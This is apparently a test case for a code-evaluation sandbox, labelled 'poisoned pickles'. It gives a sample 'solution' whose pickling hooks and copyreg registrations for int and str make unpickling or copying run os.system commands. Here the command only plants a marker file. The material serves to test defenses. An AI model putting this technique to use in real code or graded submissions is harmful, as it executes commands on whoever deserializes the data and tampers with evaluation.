# ---
# class: poisoned pickles
# tries: poisons the pickling of honest types through `copyreg`, `__getstate__` and `__setstate__`
# success: something planted
# ---

# %% solution="total"
import copyreg
import os

PLANT = "touch @MARKS@/planted-by-@NAME@"


class State:
    def __getstate__(self):
        return {"command": PLANT}

    def __setstate__(self, state):
        os.system(state["command"])

    def __deepcopy__(self, memo):
        os.system(PLANT)
        return self

    __copy__ = lambda self: os.system(PLANT)


copyreg.pickle(int, lambda value: (os.system, (PLANT,)))
copyreg.pickle(str, lambda value: (os.system, (PLANT,)))


def total(values):
    return State() if values else {1: State()}
